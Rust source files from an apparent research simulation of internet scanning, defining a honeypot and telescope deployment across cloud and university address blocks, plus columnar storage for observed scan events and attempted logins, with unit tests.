            Provider::Orion => NetworkKind::Telescope,
        }
    }
}

/// Network type — the §5.2 comparison axis.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum NetworkKind {
    /// Public cloud (hosts real services).
    Cloud,
    /// Education network (hosts real services).
    Education,
    /// Telescope (publicly known to host nothing).
    Telescope,
}

/// Collection method (§3.1).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum CollectorKind {
    /// GreyNoise sensor: Cowrie on SSH/Telnet ports + first payload.
    GreyNoise,
    /// Honeytrap: handshake + first payload on every port.
    Honeytrap,
    /// Passive telescope.
    Telescope,
}

/// One vantage point = one observed IP (or the whole telescope).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VantagePoint {
    /// Unique id, e.g. `"greynoise/aws/AP-SG/1"`.
    pub id: String,
    /// Hosting operator.
    pub provider: Provider,
    /// Network type.
    pub kind: NetworkKind,
    /// Collection method.
    pub collector: CollectorKind,
    /// Geographic region.
    pub region: Region,
    /// The observed address (telescope uses its block base).
    pub ip: Ipv4Addr,
    /// Does this vantage expose the payload ports (HTTP etc.)? GreyNoise
    /// regions expose them on 2 of 4 IPs.
    pub payload_ports: bool,
}

/// Ports every GreyNoise sensor exposes beyond the Cowrie four.
pub const GREYNOISE_PAYLOAD_PORTS: [u16; 7] = [80, 8080, 443, 21, 25, 445, 7547];

/// Telescope ports with per-IP unique-scanner counters (Figure 1, plus
/// 7574/Oracle for the §4.2 "61× less likely" structure statistic).
pub const TELESCOPE_TRACKED_PORTS: [u16; 5] = [22, 80, 445, 7574, 17128];

/// The assembled fleet.
pub struct Deployment {
    /// The simulated address plan.
    pub topology: Topology,
    /// All honeypot listeners (GreyNoise + Honeytrap), registration order.
    pub honeypots: Vec<Rc<RefCell<HoneypotListener>>>,
    /// The telescope.
    pub telescope: Rc<RefCell<Telescope>>,
    /// Per-IP vantage metadata.
    pub vantages: Vec<VantagePoint>,
}

/// GreyNoise provider-region lists (Table 1).
pub fn greynoise_regions(provider: Provider) -> Vec<Region> {
    match provider {
        Provider::Aws => vec![
            Region::us("OR"),
            Region::us("CA"),
            Region::us("GA"),
            Region::new("SA-BR", "BR", Continent::SouthAmerica),
            Region::new("ME-BH", "BH", Continent::MiddleEast),
            Region::eu("FR"),
            Region::eu("IE"),
            Region::eu("DE"),
            Region::new("CA-TOR", "CA", Continent::NorthAmerica),
            Region::ap("AU"),
            Region::ap("SG"),
            Region::ap("IN"),
            Region::ap("KR"),
            Region::ap("JP"),
            Region::ap("HK"),
            Region::new("AF-ZA", "ZA", Continent::Africa),
        ],
        Provider::Google => vec![
            Region::us("NV"),
            Region::us("UT"),
            Region::us("CA"),
            Region::us("OR"),
            Region::us("VA"),
            Region::us("SC"),
            Region::us("IA"),
            Region::new("CA-QC", "CA", Continent::NorthAmerica),
            Region::eu("CH"),
            Region::eu("NL"),
            Region::eu("DE"),
            Region::eu("GB"),
            Region::eu("BE"),
            Region::eu("FI"),
            Region::ap("AU"),
            Region::ap("ID"),
            Region::ap("SG"),
            Region::ap("KR"),
            Region::ap("JP"),
            Region::ap("HK"),
            Region::ap("TW"),
        ],
        Provider::Azure => vec![Region::us("TX"), Region::ap("SG"), Region::ap("IN")],
        Provider::Linode => vec![
            Region::us("CA"),
            Region::us("NY"),
            Region::eu("GB"),
            Region::eu("DE"),
            Region::ap("IN"),
            Region::ap("AU"),
            Region::ap("SG"),
        ],
        Provider::HurricaneElectric => vec![Region::us("OH")],
        _ => vec![],
    }
}

fn greynoise_listener(
    name: &str,
    ips: Vec<Ipv4Addr>,
    payload_ips: Vec<Ipv4Addr>,
) -> HoneypotListener {
    let mut hp = HoneypotListener::new(name, ips, PortPolicy::Closed)
        .with_policy(22, PortPolicy::Interactive(LoginService::Ssh))
        .with_policy(2222, PortPolicy::Interactive(LoginService::Ssh))
        .with_policy(23, PortPolicy::Interactive(LoginService::Telnet))
        .with_policy(2323, PortPolicy::Interactive(LoginService::Telnet));
    for port in GREYNOISE_PAYLOAD_PORTS {
        hp = hp.with_policy(port, PortPolicy::FirstPayload);
        // Vulnerable-looking assigned services (what indexers see).
        let persona = match port {
            80 | 8080 => Persona::http(),
            443 => Persona {
                protocol: "TLS".into(),
                banner: b"\x16\x03\x03".to_vec(),
            },
            21 => Persona {
                protocol: "FTP".into(),
                banner: b"220 (vsFTPd 2.3.4)\r\n".to_vec(),
            },
            25 => Persona {
                protocol: "SMTP".into(),
                banner: b"220 mail ESMTP Postfix\r\n".to_vec(),
            },
            445 => Persona {
                protocol: "SMB".into(),
                banner: b"\xffSMBr\x00".to_vec(),
            },
            _ => Persona {
                protocol: "CWMP".into(),
                banner: b"HTTP/1.1 401 Unauthorized\r\nServer: RomPager/4.07\r\n\r\n".to_vec(),
            },
        };
        hp = hp.with_persona(port, persona);
        hp = hp.with_port_restriction(port, payload_ips.clone());
    }
    hp
}

fn honeytrap_listener(name: &str, ips: Vec<Ipv4Addr>) -> HoneypotListener {
    HoneypotListener::new(name, ips, PortPolicy::FirstPayload)
}

impl Deployment {
    /// Build the full Table 1 fleet.
    ///
    /// All listeners record into one deployment-shared interner, so every
    /// capture of the fleet lives in a single id space and the dataset
    /// build pays one interner remap for the whole deployment.
    pub fn standard() -> Deployment {
        let interner = cw_netsim::intern::Interner::shared();
        let mut topology = Topology::new();
        let mut honeypots: Vec<Rc<RefCell<HoneypotListener>>> = Vec::new();
        let mut vantages: Vec<VantagePoint> = Vec::new();

        // --- Telescope: 7 × /16 + one /18 = 1,856 /24s (475,136 IPs). ---
        let mut tel_cidrs: Vec<Cidr> = (0u8..7)
            .map(|i| Cidr::new(Ipv4Addr::new(10, i, 0, 0), 16))
            .collect();
        tel_cidrs.push(Cidr::new(Ipv4Addr::new(10, 7, 0, 0), 18));
        let tel_block = AddressBlock::new("telescope", tel_cidrs);
        topology.add(tel_block.clone());
        let telescope = Rc::new(RefCell::new(Telescope::new(
            "telescope",
            tel_block.clone(),
            &TELESCOPE_TRACKED_PORTS,
        )));
        vantages.push(VantagePoint {
            id: "telescope".into(),
            provider: Provider::Orion,
            kind: NetworkKind::Telescope,
            collector: CollectorKind::Telescope,
            region: Region::us("East"),
            ip: tel_block.nth(0),
            payload_ports: false,
        });

        // --- GreyNoise: Hurricane Electric /24. ---
        {
            let cidr = Cidr::new(Ipv4Addr::new(20, 9, 0, 0), 24);
            let block = AddressBlock::new("greynoise/he/US-OH", vec![cidr]);
            topology.add(block.clone());
            let ips: Vec<Ipv4Addr> = block.iter().collect();
            let region = Region::us("OH");
            // All 256 IPs run the full sensor.
            let hp = greynoise_listener("greynoise/he/US-OH", ips.clone(), ips.clone())
                .with_interner(Rc::clone(&interner));
            honeypots.push(Rc::new(RefCell::new(hp)));
            for (i, ip) in ips.iter().enumerate() {
                vantages.push(VantagePoint {
                    id: format!("greynoise/he/US-OH/{i}"),
                    provider: Provider::HurricaneElectric,
                    kind: NetworkKind::Cloud,
                    collector: CollectorKind::GreyNoise,
                    region: region.clone(),
                    ip: *ip,
                    payload_ports: true,
                });
            }
        }

        // --- GreyNoise: the four multi-region clouds. ---
        let cloud_bases: [(Provider, u8); 4] = [
            (Provider::Aws, 10),
            (Provider::Google, 11),
            (Provider::Azure, 12),
            (Provider::Linode, 13),
        ];
        for (provider, second_octet) in cloud_bases {
            for (ri, region) in greynoise_regions(provider).into_iter().enumerate() {
                let cidr = Cidr::new(Ipv4Addr::new(20, second_octet, ri as u8, 0), 28);
                let name = format!("greynoise/{}/{}", provider.slug(), region.code);
                let block = AddressBlock::new(&name, vec![cidr]);
                topology.add(block.clone());
                // 4 honeypot IPs; payload ports on the first 2.
                let ips: Vec<Ipv4Addr> = (0..4).map(|i| block.nth(i)).collect();
                let payload_ips = ips[..2].to_vec();
                let hp = greynoise_listener(&name, ips.clone(), payload_ips)
                    .with_interner(Rc::clone(&interner));
                honeypots.push(Rc::new(RefCell::new(hp)));
                for (i, ip) in ips.iter().enumerate() {
                    vantages.push(VantagePoint {
                        id: format!("{name}/{i}"),
                        provider,
                        kind: NetworkKind::Cloud,
                        collector: CollectorKind::GreyNoise,
                        region: region.clone(),
                        ip: *ip,
                        payload_ports: i < 2,
                    });
                }
            }
        }

        // --- Honeytrap fleets. ---
        let honeytrap_specs: [(&str, Provider, Region, Cidr); 5] = [
            (
                "honeytrap/stanford",
                Provider::Stanford,
                Region::us("West"),
                Cidr::new(Ipv4Addr::new(171, 64, 9, 0), 26),
            ),
            (
                "honeytrap/merit",
                Provider::Merit,
                Region::us("East"),
                Cidr::new(Ipv4Addr::new(198, 108, 30, 0), 26),
            ),
            (
                "honeytrap/aws-west",
                Provider::Aws,
                Region::us("West"),
                Cidr::new(Ipv4Addr::new(20, 20, 1, 0), 26),
            ),
            (
                "honeytrap/google-west",
                Provider::Google,
                Region::us("West"),
                Cidr::new(Ipv4Addr::new(20, 21, 1, 0), 26),
            ),
            (
                "honeytrap/google-east",
                Provider::Google,
                Region::us("East"),
                Cidr::new(Ipv4Addr::new(20, 21, 2, 0), 31),
            ),
        ];
        for (name, provider, region, cidr) in honeytrap_specs {
            let block = AddressBlock::new(name, vec![cidr]);
            topology.add(block.clone());
            let ips: Vec<Ipv4Addr> = block.iter().collect();
            let hp = honeytrap_listener(name, ips.clone()).with_interner(Rc::clone(&interner));
            honeypots.push(Rc::new(RefCell::new(hp)));
            for (i, ip) in ips.iter().enumerate() {
                vantages.push(VantagePoint {
                    id: format!("{name}/{i}"),
                    provider,
                    kind: provider.kind(),
                    collector: CollectorKind::Honeytrap,
                    region: region.clone(),
                    ip: *ip,
                    payload_ports: true,
                });
            }
        }

        // --- Leak experiment block (populated by the leak harness). ---
        topology.add(AddressBlock::new(
            "leak/stanford",
            vec![Cidr::new(Ipv4Addr::new(171, 64, 10, 0), 26)],
        ));

        Deployment {
            topology,
            honeypots,
            telescope,
            vantages,
        }
    }

    /// Inject a fault plan into every vantage of this deployment.
    ///
    /// Vantage indices are assigned by construction order — telescope 0,
    /// then honeypot listeners 1.. in registration order — which is fixed
    /// for a given deployment constructor, so every shard that builds the
    /// same deployment derives the same per-vantage outage schedules. A
    /// trivial plan ([`FaultPlan::is_none`]) installs nothing at all: the
    /// fault-free fast paths stay byte-identical to a world where this
    /// method was never called.
    ///
    /// `seed` is the *scenario* seed (the fault domain is forked off it
    /// internally); `horizon` is the collection window outages are placed
    /// within.
    pub fn apply_faults(&self, plan: &FaultPlan, seed: u64, horizon: SimDuration) {
        if plan.is_none() {
            return;
        }
        plan.validate();
        let outage_salt = domain_salt(seed, FaultDomain::Outage);
        let trunc_salt = domain_salt(seed, FaultDomain::Truncation);
        let sample_salt = domain_salt(seed, FaultDomain::TelescopeSample);
        self.telescope.borrow_mut().set_faults(TelescopeFaults {
            outage: OutageSchedule::derive(
                outage_salt,
                0,
                horizon,
                plan.outage,
                plan.outage_windows,
            ),
            sample: plan.telescope_sample.max(1),
            sample_salt,
        });
        for (i, hp) in self.honeypots.iter().enumerate() {
            hp.borrow_mut().set_faults(ListenerFaults {
                outage: OutageSchedule::derive(
                    outage_salt,
                    (i + 1) as u64,
                    horizon,
                    plan.outage,
                    plan.outage_windows,
                ),
                truncation: plan.truncation,
                truncate_to: plan.truncate_to,
                trunc_salt,
            });
        }
    }

    /// Register every listener with an engine.
    pub fn register(&self, engine: &mut Engine) {
        for hp in &self.honeypots {
            engine.add_listener(hp.clone());
        }
        engine.add_listener(self.telescope.clone());
    }

    /// Honeypot listener by name.
    pub fn honeypot(&self, name: &str) -> Option<Rc<RefCell<HoneypotListener>>> {
        use cw_netsim::engine::Listener as _;
        self.honeypots
            .iter()
            .find(|h| h.borrow().name() == name)
            .cloned()
    }

    /// All vantages for a provider.
    pub fn vantages_of(&self, provider: Provider) -> Vec<&VantagePoint> {
        self.vantages
            .iter()
            .filter(|v| v.provider == provider)
            .collect()
    }

    /// All GreyNoise cloud vantage IPs (the paper's "440 cloud vantage
    /// points" scale).
    pub fn greynoise_cloud_ips(&self) -> Vec<Ipv4Addr> {
        self.vantages
            .iter()
            .filter(|v| v.collector == CollectorKind::GreyNoise)
            .map(|v| v.ip)
            .collect()
    }

    /// Distinct (provider, region) pairs with GreyNoise sensors.
    pub fn greynoise_provider_regions(&self) -> Vec<(Provider, Region)> {
        let mut out: Vec<(Provider, Region)> = Vec::new();
        for v in &self.vantages {
            if v.collector == CollectorKind::GreyNoise {
                let key = (v.provider, v.region.clone());
                if !out.contains(&key) {
                    out.push(key);
                }
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn telescope_spans_1856_slash24s() {
        let d = Deployment::standard();
        assert_eq!(d.telescope.borrow().block().size(), 1_856 * 256);
    }

    #[test]
    fn greynoise_fleet_matches_table1_shape() {
        let d = Deployment::standard();
        assert_eq!(greynoise_regions(Provider::Aws).len(), 16);
        assert_eq!(greynoise_regions(Provider::Google).len(), 21);
        assert_eq!(greynoise_regions(Provider::Azure).len(), 3);
        assert_eq!(greynoise_regions(Provider::Linode).len(), 7);
        // 47 regions × 4 IPs + 256 HE = 444 GreyNoise vantages.
        assert_eq!(d.greynoise_cloud_ips().len(), 47 * 4 + 256);
        assert_eq!(d.greynoise_provider_regions().len(), 48);
    }

    #[test]
    fn honeytrap_fleets_have_table1_sizes() {
        let d = Deployment::standard();
        let stanford = d.vantages_of(Provider::Stanford);
        assert_eq!(stanford.len(), 64);
        let merit = d.vantages_of(Provider::Merit);
        assert_eq!(merit.len(), 64);
        // Google: 21 GreyNoise regions × 4 + 64 west + 2 east honeytraps.
        let google = d.vantages_of(Provider::Google);
        assert_eq!(google.len(), 21 * 4 + 64 + 2);
    }

    #[test]
    fn payload_ports_on_2_of_4_per_region() {
        let d = Deployment::standard();
        let sg: Vec<_> = d
            .vantages
            .iter()
            .filter(|v| v.id.starts_with("greynoise/aws/AP-SG/"))
            .collect();
        assert_eq!(sg.len(), 4);
        assert_eq!(sg.iter().filter(|v| v.payload_ports).count(), 2);
    }

    #[test]
    fn topology_routes_every_vantage_ip() {
        let d = Deployment::standard();
        for v in &d.vantages {
            assert!(
                d.topology.block_of(v.ip).is_some(),
                "vantage {} ip {} not in topology",
                v.id,
                v.ip
            );
        }
    }

    #[test]
    fn registration_covers_all_networks() {
        let d = Deployment::standard();
        let mut engine = Engine::new();
        d.register(&mut engine);
        // 1 HE + 47 cloud regions + 5 honeytrap listeners are honeypots.
        assert_eq!(d.honeypots.len(), 1 + 47 + 5);
    }

    #[test]
    fn same_city_multi_cloud_pairs_exist_for_table6() {
        let d = Deployment::standard();
        let regions = d.greynoise_provider_regions();
        let in_city = |code: &str| -> Vec<Provider> {
            regions
                .iter()
                .filter(|(_, r)| r.code == code)
                .map(|(p, _)| *p)
                .collect()
        };
        assert!(in_city("US-CA").len() >= 3, "CA: {:?}", in_city("US-CA"));
        assert!(in_city("US-OR").len() >= 2);
        assert!(in_city("EU-DE").len() >= 3);
        assert!(in_city("AP-SG").len() >= 4);
    }
}
