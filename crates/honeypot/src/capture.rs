//! Scan-event records and capture stores.
//!
//! A [`ScanEvent`] is what a collection method managed to observe for one
//! connection — which varies by instrument (§3.1): telescopes record only
//! the first packet, Honeytrap the first payload, Cowrie the attempted
//! credentials. Classification into scanner/attacker happens later, in the
//! analysis pipeline, exactly as the paper classifies offline.

use cw_netsim::asn::Asn;
use cw_netsim::flow::LoginService;
use cw_netsim::time::SimTime;
use std::net::Ipv4Addr;

/// What the instrument observed of the connection.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Observed {
    /// First packet only (no L4 handshake): telescope-style.
    Syn,
    /// Handshake completed but the client sent nothing first.
    Handshake,
    /// First client payload.
    Payload(Vec<u8>),
    /// Interactive login attempt harvested by a Cowrie-style service.
    Credentials {
        /// Which service dialect the client spoke.
        service: LoginService,
        /// Attempted username.
        username: String,
        /// Attempted password.
        password: String,
    },
}

impl Observed {
    /// The payload bytes, if this observation carries any.
    pub fn payload(&self) -> Option<&[u8]> {
        match self {
            Observed::Payload(p) => Some(p),
            _ => None,
        }
    }
}

/// One observed connection at one vantage IP.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ScanEvent {
    /// Observation time.
    pub time: SimTime,
    /// Source (scanner) address.
    pub src: Ipv4Addr,
    /// Source autonomous system.
    pub src_asn: Asn,
    /// Destination (vantage) address.
    pub dst: Ipv4Addr,
    /// Destination port.
    pub dst_port: u16,
    /// What was observed.
    pub observed: Observed,
}

/// An append-only store of events for one instrument.
#[derive(Debug, Clone, Default)]
pub struct Capture {
    /// Instrument name (e.g. `"greynoise/aws/US-OR"`).
    pub vantage: String,
    /// Observed events in arrival order.
    pub events: Vec<ScanEvent>,
}

impl Capture {
    /// An empty capture for the named instrument.
    pub fn new(vantage: &str) -> Self {
        Capture {
            vantage: vantage.to_string(),
            events: Vec::new(),
        }
    }

    /// Append an event.
    pub fn record(&mut self, event: ScanEvent) {
        self.events.push(event);
    }

    /// Number of recorded events.
    pub fn len(&self) -> usize {
        self.events.len()
    }

    /// True when nothing was recorded.
    pub fn is_empty(&self) -> bool {
        self.events.is_empty()
    }

    /// Events destined to one vantage IP (a single honeypot).
    pub fn events_for_ip(&self, ip: Ipv4Addr) -> impl Iterator<Item = &ScanEvent> {
        self.events.iter().filter(move |e| e.dst == ip)
    }

    /// Events on one destination port.
    pub fn events_on_port(&self, port: u16) -> impl Iterator<Item = &ScanEvent> {
        self.events.iter().filter(move |e| e.dst_port == port)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn event(dst_last: u8, port: u16) -> ScanEvent {
        ScanEvent {
            time: SimTime(1),
            src: Ipv4Addr::new(1, 2, 3, 4),
            src_asn: Asn(1),
            dst: Ipv4Addr::new(10, 0, 0, dst_last),
            dst_port: port,
            observed: Observed::Handshake,
        }
    }

    #[test]
    fn record_and_filter() {
        let mut c = Capture::new("test");
        c.record(event(1, 22));
        c.record(event(1, 80));
        c.record(event(2, 22));
        assert_eq!(c.len(), 3);
        assert_eq!(c.events_for_ip(Ipv4Addr::new(10, 0, 0, 1)).count(), 2);
        assert_eq!(c.events_on_port(22).count(), 2);
    }

    #[test]
    fn observed_payload_accessor() {
        assert_eq!(Observed::Syn.payload(), None);
        assert_eq!(Observed::Handshake.payload(), None);
        let p = Observed::Payload(b"abc".to_vec());
        assert_eq!(p.payload(), Some(b"abc".as_slice()));
        let c = Observed::Credentials {
            service: LoginService::Ssh,
            username: "u".into(),
            password: "p".into(),
        };
        assert_eq!(c.payload(), None);
    }
}
