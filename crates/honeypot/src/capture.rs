//! Capture storage: what a vantage point records, in columnar form.
//!
//! The paper's §3.1 observation model distinguishes collectors by how much
//! of a flow they see: a telescope records bare SYNs, Honeytrap records the
//! handshake plus the first client payload, Cowrie harvests interactive
//! credentials. [`Observed`] encodes that per-event outcome. Classification
//! into scanner/attacker happens later, in the analysis pipeline, exactly
//! as the paper classifies offline.
//!
//! Two representation choices keep this layer cheap at scale:
//!
//! - **Interning** — payload blobs and credential strings live once in a
//!   shared [`Interner`]; events carry 4-byte
//!   [`PayloadId`]/[`CredId`] handles instead of owned `Vec<u8>`/`String`s,
//!   so recording, cloning, and merging never copy blob bytes.
//! - **Columnar storage** — [`EventTable`] is a struct-of-arrays: one
//!   parallel column per event field. Scans that touch a single field
//!   (port filters, time buckets, group-bys) walk a dense column instead
//!   of striding over wide rows.
//!
//! [`ScanEvent`] remains the row-shaped view: `Copy`, assembled on demand
//! by [`EventTable::get`] and the iterators.

use cw_netsim::asn::Asn;
use cw_netsim::flow::LoginService;
use cw_netsim::intern::{CredId, Interner, PayloadId};
use cw_netsim::snap::{SnapError, SnapReader, SnapWriter};
use cw_netsim::time::SimTime;
use std::cell::RefCell;
use std::net::Ipv4Addr;
use std::rc::Rc;

/// What the instrument observed of the connection.
///
/// Payload bytes and credential strings are interned: resolve the ids
/// against the capture's (or dataset's) interner.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Observed {
    /// First packet only (no L4 handshake): telescope-style.
    Syn,
    /// Handshake completed but the client sent nothing first.
    Handshake,
    /// First client payload (interned).
    Payload(PayloadId),
    /// Interactive login attempt harvested by a Cowrie-style service.
    Credentials {
        /// Which service dialect the client spoke.
        service: LoginService,
        /// Attempted username (interned).
        username: CredId,
        /// Attempted password (interned).
        password: CredId,
    },
}

impl Observed {
    /// The recorded payload id, if this observation carries one.
    pub fn payload(&self) -> Option<PayloadId> {
        match self {
            Observed::Payload(p) => Some(*p),
            _ => None,
        }
    }
}

/// One recorded observation (row view over the columnar [`EventTable`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ScanEvent {
    /// When the flow arrived.
    pub time: SimTime,
    /// Source address.
    pub src: Ipv4Addr,
    /// Source autonomous system.
    pub src_asn: Asn,
    /// Destination address (which of our IPs was hit).
    pub dst: Ipv4Addr,
    /// Destination TCP port.
    pub dst_port: u16,
    /// What the collector saw.
    pub observed: Observed,
}

/// Struct-of-arrays event store: one dense column per [`ScanEvent`] field.
///
/// All columns always have identical length; index `i` across the columns
/// is row `i`.
#[derive(Debug, Clone, Default)]
pub struct EventTable {
    times: Vec<SimTime>,
    srcs: Vec<Ipv4Addr>,
    src_asns: Vec<Asn>,
    dsts: Vec<Ipv4Addr>,
    dst_ports: Vec<u16>,
    observed: Vec<Observed>,
}

impl EventTable {
    /// An empty table.
    pub fn new() -> Self {
        EventTable::default()
    }

    /// An empty table with room for `n` rows in every column. Purely an
    /// allocation hint (the streaming dataset build pre-sizes from the
    /// scenario's expected event count); contents and behavior are
    /// unaffected.
    pub fn with_capacity(n: usize) -> Self {
        EventTable {
            times: Vec::with_capacity(n),
            srcs: Vec::with_capacity(n),
            src_asns: Vec::with_capacity(n),
            dsts: Vec::with_capacity(n),
            dst_ports: Vec::with_capacity(n),
            observed: Vec::with_capacity(n),
        }
    }

    /// Number of rows.
    pub fn len(&self) -> usize {
        self.times.len()
    }

    /// Whether the table has no rows.
    pub fn is_empty(&self) -> bool {
        self.times.is_empty()
    }

    /// Append one event as a new row.
    pub fn push(&mut self, e: ScanEvent) {
        self.times.push(e.time);
        self.srcs.push(e.src);
        self.src_asns.push(e.src_asn);
        self.dsts.push(e.dst);
        self.dst_ports.push(e.dst_port);
        self.observed.push(e.observed);
    }

    /// Reassemble row `i` into its row view.
    ///
    /// # Panics
    /// Panics if `i >= len()`.
    pub fn get(&self, i: usize) -> ScanEvent {
        ScanEvent {
            time: self.times[i],
            src: self.srcs[i],
            src_asn: self.src_asns[i],
            dst: self.dsts[i],
            dst_port: self.dst_ports[i],
            observed: self.observed[i],
        }
    }

    /// Iterate rows in insertion order.
    pub fn iter(&self) -> impl Iterator<Item = ScanEvent> + '_ {
        (0..self.len()).map(move |i| self.get(i))
    }

    /// The arrival-time column (dense; one entry per row).
    pub fn times(&self) -> &[SimTime] {
        &self.times
    }

    /// The source-address column.
    pub fn srcs(&self) -> &[Ipv4Addr] {
        &self.srcs
    }

    /// The source-AS column.
    pub fn src_asns(&self) -> &[Asn] {
        &self.src_asns
    }

    /// The destination-address column (dense; one entry per row).
    pub fn dsts(&self) -> &[Ipv4Addr] {
        &self.dsts
    }

    /// The destination-port column.
    pub fn dst_ports(&self) -> &[u16] {
        &self.dst_ports
    }

    /// The observation column.
    pub fn observed(&self) -> &[Observed] {
        &self.observed
    }

    /// Append all rows of `other`, translating interned ids through `f`.
    ///
    /// Used by the dataset merge path: `f` remaps ids from the source
    /// interner's space into the destination's.
    pub fn extend_remapped(&mut self, other: &EventTable, mut f: impl FnMut(Observed) -> Observed) {
        self.times.extend_from_slice(&other.times);
        self.srcs.extend_from_slice(&other.srcs);
        self.src_asns.extend_from_slice(&other.src_asns);
        self.dsts.extend_from_slice(&other.dsts);
        self.dst_ports.extend_from_slice(&other.dst_ports);
        self.observed.extend(other.observed.iter().map(|&o| f(o)));
    }

    /// Encode all rows into a snapshot payload, column by column (the
    /// columnar layout is also the most compact wire form: each field is
    /// a dense homogeneous run).
    pub fn snap_write(&self, w: &mut SnapWriter) {
        w.put_u64(self.len() as u64);
        for t in &self.times {
            w.put_u64(t.0);
        }
        for s in &self.srcs {
            w.put_u32(u32::from(*s));
        }
        for a in &self.src_asns {
            w.put_u32(a.0);
        }
        for d in &self.dsts {
            w.put_u32(u32::from(*d));
        }
        for p in &self.dst_ports {
            w.put_u16(*p);
        }
        for o in &self.observed {
            match o {
                Observed::Syn => w.put_u8(0),
                Observed::Handshake => w.put_u8(1),
                Observed::Payload(p) => {
                    w.put_u8(2);
                    w.put_u32(p.0);
                }
                Observed::Credentials {
                    service,
                    username,
                    password,
                } => {
                    w.put_u8(3);
                    w.put_u8(match service {
                        LoginService::Ssh => 0,
                        LoginService::Telnet => 1,
                    });
                    w.put_u32(username.0);
                    w.put_u32(password.0);
                }
            }
        }
    }

    /// Decode a table from a snapshot payload. Interned ids are copied
    /// verbatim: they resolve against the interner snapshotted alongside
    /// the table, whose insertion-order ids round-trip exactly.
    pub fn snap_read(r: &mut SnapReader<'_>) -> Result<EventTable, SnapError> {
        let n = r.get_count()?;
        let mut t = EventTable {
            times: Vec::with_capacity(n),
            srcs: Vec::with_capacity(n),
            src_asns: Vec::with_capacity(n),
            dsts: Vec::with_capacity(n),
            dst_ports: Vec::with_capacity(n),
            observed: Vec::with_capacity(n),
        };
        for _ in 0..n {
            t.times.push(SimTime(r.get_u64()?));
        }
        for _ in 0..n {
            t.srcs.push(Ipv4Addr::from(r.get_u32()?));
        }
        for _ in 0..n {
            t.src_asns.push(Asn(r.get_u32()?));
        }
        for _ in 0..n {
            t.dsts.push(Ipv4Addr::from(r.get_u32()?));
        }
        for _ in 0..n {
            t.dst_ports.push(r.get_u16()?);
        }
        for _ in 0..n {
            let o = match r.get_u8()? {
                0 => Observed::Syn,
                1 => Observed::Handshake,
                2 => Observed::Payload(PayloadId(r.get_u32()?)),
                3 => {
                    let service = match r.get_u8()? {
                        0 => LoginService::Ssh,
                        1 => LoginService::Telnet,
                        _ => return Err(SnapError::Malformed("unknown login service tag")),
                    };
                    Observed::Credentials {
                        service,
                        username: CredId(r.get_u32()?),
                        password: CredId(r.get_u32()?),
                    }
                }
                _ => return Err(SnapError::Malformed("unknown observation tag")),
            };
            t.observed.push(o);
        }
        Ok(t)
    }
}

/// Everything one vantage point recorded, plus the interner its ids
/// resolve against.
///
/// Cloning a `Capture` shares the interner handle (ids stay valid in both
/// clones); the event table itself is copied.
#[derive(Debug, Clone)]
pub struct Capture {
    /// Label of the vantage point that recorded these events.
    pub vantage: String,
    table: EventTable,
    /// Per-row `(sending agent, engine send seq)` stamps, parallel to the
    /// table. `(time, agent, seq)` totally orders every record an engine
    /// produced, which is what lets sharded simulation runs merge back into
    /// the exact unsharded record (and intern) order. Run-local bookkeeping
    /// only: not part of the snapshot format, and empty `(0, 0)` stamps are
    /// recorded by the plain [`Capture::record`] path.
    order: Vec<(u32, u64)>,
    interner: Rc<RefCell<Interner>>,
}

impl Default for Capture {
    fn default() -> Self {
        Capture::new("")
    }
}

impl Capture {
    /// An empty capture with its own fresh interner.
    pub fn new(vantage: impl Into<String>) -> Self {
        Capture {
            vantage: vantage.into(),
            table: EventTable::new(),
            order: Vec::new(),
            interner: Interner::shared(),
        }
    }

    /// Swap in a shared interner (deployment-wide sharing: every listener
    /// records into the same id space, so the dataset build remaps once).
    pub fn with_interner(mut self, interner: Rc<RefCell<Interner>>) -> Self {
        self.interner = interner;
        self
    }

    /// Handle to the interner this capture's ids resolve against.
    pub fn interner(&self) -> Rc<RefCell<Interner>> {
        Rc::clone(&self.interner)
    }

    /// Intern a payload blob into this capture's id space.
    pub fn intern_payload(&self, bytes: &[u8]) -> PayloadId {
        self.interner.borrow_mut().intern_payload(bytes)
    }

    /// Intern a credential string into this capture's id space.
    pub fn intern_cred(&self, s: &str) -> CredId {
        self.interner.borrow_mut().intern_cred(s)
    }

    /// Append one event.
    pub fn record(&mut self, e: ScanEvent) {
        self.record_from(e, 0, 0);
    }

    /// Append one event stamped with the sending agent's id and the
    /// engine's send sequence number (see the `order` field).
    pub fn record_from(&mut self, e: ScanEvent, agent: u32, seq: u64) {
        self.table.push(e);
        self.order.push((agent, seq));
    }

    /// Per-row `(agent, seq)` order stamps, parallel to [`Capture::table`].
    pub fn order(&self) -> &[(u32, u64)] {
        &self.order
    }

    /// Drain everything recorded so far, leaving the capture empty but
    /// still live: the vantage label and the shared interner handle stay,
    /// so the listener keeps recording (and interning) into the same id
    /// space afterwards.
    ///
    /// This is the incremental hand-off of the streaming dataset build —
    /// called at every window boundary so capture-side buffering (rows +
    /// order stamps) never grows past one window of events. Interned ids
    /// in the returned table resolve against [`Capture::interner`] exactly
    /// as before; draining moves rows, it never re-numbers anything.
    pub fn take_rows(&mut self) -> (EventTable, Vec<(u32, u64)>) {
        (
            std::mem::take(&mut self.table),
            std::mem::take(&mut self.order),
        )
    }

    /// Number of recorded events.
    pub fn len(&self) -> usize {
        self.table.len()
    }

    /// Whether nothing was recorded.
    pub fn is_empty(&self) -> bool {
        self.table.is_empty()
    }

    /// The columnar event store.
    pub fn table(&self) -> &EventTable {
        &self.table
    }

    /// Row `i` as a row view.
    pub fn event(&self, i: usize) -> ScanEvent {
        self.table.get(i)
    }

    /// Iterate all events in recording order.
    pub fn events(&self) -> impl Iterator<Item = ScanEvent> + '_ {
        self.table.iter()
    }

    /// Events whose destination is `ip`.
    pub fn events_for_ip(&self, ip: Ipv4Addr) -> impl Iterator<Item = ScanEvent> + '_ {
        let table = &self.table;
        table
            .dsts()
            .iter()
            .enumerate()
            .filter(move |&(_, &dst)| dst == ip)
            .map(move |(i, _)| table.get(i))
    }

    /// Events whose destination port is `port`.
